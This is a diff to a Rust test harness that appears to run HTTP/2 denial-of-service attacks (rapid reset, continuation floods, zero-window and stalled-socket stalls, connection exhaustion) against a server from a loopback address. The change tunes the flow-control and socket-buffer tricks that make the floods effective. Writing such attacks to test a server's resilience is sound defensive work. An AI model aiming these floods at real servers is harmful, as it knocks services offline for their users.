@@ -9,14 +9,15 @@ use tokio::task::JoinSet;
 use tokio::time::{Instant, sleep, timeout_at};
 
 use crate::frames::{
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, beginning, encode_headers,
-    frame,
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, WINDOW_UPDATE, beginning,
+    encode_headers, frame,
 };
 
 /// The address that attackers connect from.
 const SOURCE: &str = "127.0.0.66";
 const PATH: &str = "/cosell.opportunity.v1.OpportunityService/ListOpportunities";
 const WINDOW: u32 = 65_535;
+const MAX_WINDOW: u32 = 0x7fff_ffff;
 
 /// An attack.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -60,18 +61,30 @@ impl Attack {
         Attack::Connections,
     ];
 
+    /// Whether the attack needs answers, so that its caller must have access.
+    pub fn needs_answers(self) -> bool {
+        matches!(
+            self,
+            Attack::PingDeaf | Attack::ZeroWindow | Attack::StalledSocket
+        )
+    }
+
     /// Runs until the deadline. Returns the number of connections that were open at its end.
     pub async fn run(self, server: SocketAddr, token: &str, until: Instant) -> usize {
-        let connections = match self {
+        let connections: u32 = match self {
             Attack::Connections => 2_100,
             Attack::RapidReset | Attack::ContinuationFlood | Attack::NoBody => 6,
+            Attack::StalledSocket => 10,
             _ => 200,
         };
         let mut clients = JoinSet::new();
         for number in 0..connections {
+            // All within five seconds: the attack is not the load of its beginning.
+            let pause = Duration::from_secs(5) * number / connections;
             let attacker = Attacker {
                 server,
-                number,
+                number: number as usize,
+                pause,
                 headers: headers(token),
                 until,
             };
@@ -98,13 +111,15 @@ fn headers(token: &str) -> Vec<u8> {
 struct Attacker {
     server: SocketAddr,
     number: usize,
+    pause: Duration,
     headers: Vec<u8>,
     until: Instant,
 }
 
 impl Attacker {
     async fn attack(self, attack: Attack) -> std::io::Result<()> {
-        let mut stream = self.connect().await?;
+        sleep(self.pause).await;
+        let mut stream = self.connect(attack == Attack::StalledSocket).await?;
         match attack {
             Attack::PartialPreface => stream.write_all(&PREFACE[..=self.number % 23]).await?,
             Attack::Silent => stream.write_all(&beginning(WINDOW)).await?,
@@ -153,9 +168,16 @@ impl Attacker {
                 return Ok(());
             }
             Attack::PingDeaf | Attack::StalledSocket | Attack::ZeroWindow => {
-                let window = if attack == Attack::ZeroWindow { 0 } else { WINDOW };
-                stream.write_all(&beginning(window)).await?;
-                for call in 0..20 {
+                let window = if attack == Attack::ZeroWindow {
+                    0
+                } else {
+                    MAX_WINDOW
+                };
+                let update = frame(WINDOW_UPDATE, 0, 0, &(MAX_WINDOW / 2).to_be_bytes());
+                stream.write_all(&[beginning(window), update].concat()).await?;
+                // Enough to fill the buffers of the socket.
+                let calls = if attack == Attack::StalledSocket { 100 } else { 3 };
+                for call in 0..calls {
                     stream
                         .write_all(&frame(HEADERS, END_HEADERS, call * 2 + 1, &self.headers))
                         .await?;
@@ -194,8 +216,11 @@ impl Attacker {
         Ok(())
     }
 
-    async fn connect(&self) -> std::io::Result<TcpStream> {
+    async fn connect(&self, has_small_buffer: bool) -> std::io::Result<TcpStream> {
         let socket = TcpSocket::new_v4()?;
+        if has_small_buffer {
+            socket.set_recv_buffer_size(2_048)?;
+        }
         let source = format!("{SOURCE}:0").parse().map_err(std::io::Error::other)?;
         socket.bind(source)?;
         let stream = socket.connect(self.server).await?;
